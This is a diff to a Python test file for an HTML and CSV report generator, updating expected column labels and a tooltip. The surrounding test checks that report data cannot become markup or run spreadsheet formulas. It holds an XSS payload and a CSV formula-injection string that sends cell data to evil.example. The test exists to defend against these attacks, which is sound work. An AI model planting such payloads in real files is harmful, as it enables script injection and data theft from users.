@@ -106,7 +106,10 @@ def test_html_is_self_contained_and_charts_render_offline(sample_ds):
         spec = json.loads(text.replace("<\\/", "</"))
         assert vlc.vegalite_to_svg(spec).startswith("<svg")
     # the headline numbers sit beside the charts
-    assert "<th>members grouped</th><td class='num'>36</td>" in page
+    assert (
+        "<th title='Voters with enough votes to place in a group.'>Members grouped (count)</th><td class='num'>36</td>"
+        in page
+    )
 
 
 def test_json_is_plain_and_complete(sample_ds):
@@ -227,7 +230,7 @@ def test_html_report_data_cannot_become_markup_and_its_csv_cannot_run_formulas()
     # and the CSV link's file keeps formulas as text
     (data,) = re.findall(r"href='data:text/csv;charset=utf-8;base64,([^']+)'", page)
     assert base64.b64decode(data).decode() == (
-        '"segment","members"\r\n'
+        '"Segment","Members"\r\n'
         '"</script><img src=x onerror=alert(1)>",3\r\n'
         '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")",-1\r\n'
         '"Silver",5\r\n'
